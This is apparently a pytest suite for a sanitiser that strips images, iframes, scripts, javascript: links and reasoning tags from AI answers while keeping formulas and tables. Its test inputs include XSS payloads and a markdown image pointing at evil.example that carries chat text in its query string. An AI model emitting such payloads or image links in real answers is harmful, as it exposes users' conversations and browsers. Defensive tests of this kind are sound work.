"""Examples of what is removed, what stays, and how it then reads."""

import pytest

from tuwen.tools.sanitise import AnswerGuard, clean_answer, math_form, sanitise


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("见下图：![示意](https://i.example.net/a.png) 即可。", "见下图： 即可。"),
        ("![图](images/nope.jpg)", ""),
        ("<img src='http://203.0.113.9/x.png'>", ""),
        ("正常 ![](FIG:0) 文本", "正常  文本"),
        ("[打开](javascript:alert(1))", "打开"),
        ("[看](data:text/html,<b>x</b>)", "看"),
        ("![a][r]\n\n[r]: https://evil.example/p.png", "\n\n"),
        ("<iframe src=//evil.example></iframe>后", "后"),
        ("标题 <script>alert(1)</script>", "标题 "),
        ("| 阀 | <img src=x onerror=alert(2)> 常开 |", "| 阀 |  常开 |"),
        ("<x onclick=alert(1)>hi", "&lt;x onclick=alert(1)>hi"),
        ("<<b>script>x", "&lt;script>x"),
        ("[a]<b></b>(javascript:alert(1))", "[a] (javascript:alert(1))"),
        ("官网 https://www.x.com/a?q=1。", "官网 `www.x.com/a`。"),
        ("<think>想\n\n想</think>\n\n答案", "答案"),
        ("<think>没有结束", ""),
        ("H<sub>2</sub>O 与 <b>粗</b>", "H2O 与 粗"),
        ("<a href='https://e.example'>点这里</a>", "点这里"),
    ],
)
def test_what_could_become_live_is_removed_and_the_text_stays(text: str, clean: str) -> None:
    assert sanitise(text) == clean


@pytest.mark.parametrize(
    "text",
    [
        "a < b 且 c > d",
        "`<img src=x>` 是一个标签",
        "```html\n<script>x</script>\n```\n",
        "$a<b$ 与 $c>d$",
        "价格从 $5 到 $10",
        "数组 a[1] 与 `b[2]`",
        "| 名称 | 值 |\n|---|---|\n| 阀 | 3 |",
        "见[第3章]和[注1]。",
        "**重点** _斜体_ 1. 项\n- 项",
    ],
)
def test_code_formulas_and_prose_stay_as_they_are(text: str) -> None:
    assert sanitise(text) == text


def test_an_html_table_becomes_a_markdown_table() -> None:
    html = "<table>\n<tr><th>名</th><th>值</th></tr>\n<tr><td>阀</td><td>常开</td></tr>\n</table>"
    lines = [line.strip() for line in sanitise(html).strip().splitlines()]
    assert lines == ["| 名 | 值 |", "|---|---|", "| 阀 | 常开 |"]


def test_only_the_answers_own_pictures_are_shown() -> None:
    figures = {"f1": "/figures/f1"}
    assert sanitise("![图2](f1)", figures=figures) == "![图2](/figures/f1)"
    assert sanitise("![图2](FIG:f1)", figures=figures) == "![图2](/figures/f1)"
    assert sanitise("![图2](f2)", figures=figures) == ""


@pytest.mark.parametrize(
    ("text", "form"),
    [
        (r"由 \(Q=AV\) 得", "由 $Q=AV$ 得"),
        ("\\[\nH=\\frac{p}{\\rho g}\n\\]", "$$\nH=\\frac{p}{\\rho g}\n$$"),
        (r"$$\gamma=1$$ 其中", r"$$\gamma=1$$ 其中"),
        ("\\[\nH=1\n\\]，其中 H", "$$H=1$$，其中 H"),
        ("$$\nH=1\n$$[1]\n后文", "$$H=1$$[1]\n后文"),
        ("由 $$\na=\nb\n$$\n得", "由 $$a= b$$\n得"),
        ("$$a\\\\\nb$$\n后文", "$$\na\\\\\nb\n$$\n后文"),
        ("$$\na % 注\nb\n$$ 得", "$$\na % 注\nb\n$$ 得"),
        (r"$W=f\times n )", r"$W=f\times n )"),
        ("价格从 $5 到 $10", "价格从 $5 到 $10"),
        (r"`\(code\)`", r"`\(code\)`"),
        (r"未完 \( a", r"未完 \( a"),
    ],
)
def test_mathematics_has_one_form_and_money_is_none(text: str, form: str) -> None:
    assert math_form(text) == form
    assert clean_answer(text) == form
    assert clean_answer(form) == form


def test_a_verbatim_quote_keeps_the_lines_of_its_formula() -> None:
    assert sanitise("$$\nH=1\n$$，其中 H") == "$$\nH=1\n$$，其中 H"


def test_nothing_is_lost_behind_a_nested_formula() -> None:
    text = r"$$F=\left\{\begin{array}{l}a[1]\\ b\end{array}\right.$$[1] 后文完整。"
    assert clean_answer(text, 2) == text


def test_a_streamed_picture_never_shows_its_address() -> None:
    guard = AnswerGuard(1)
    text = "好的 ![](https://evil.example/?q=聊天) 完"
    shown = [guard.feed(text[i : i + 3]) for i in range(0, len(text), 3)]
    assert "evil" not in "".join(shown)
    assert "".join(shown) + guard.flush() == "好的  完"
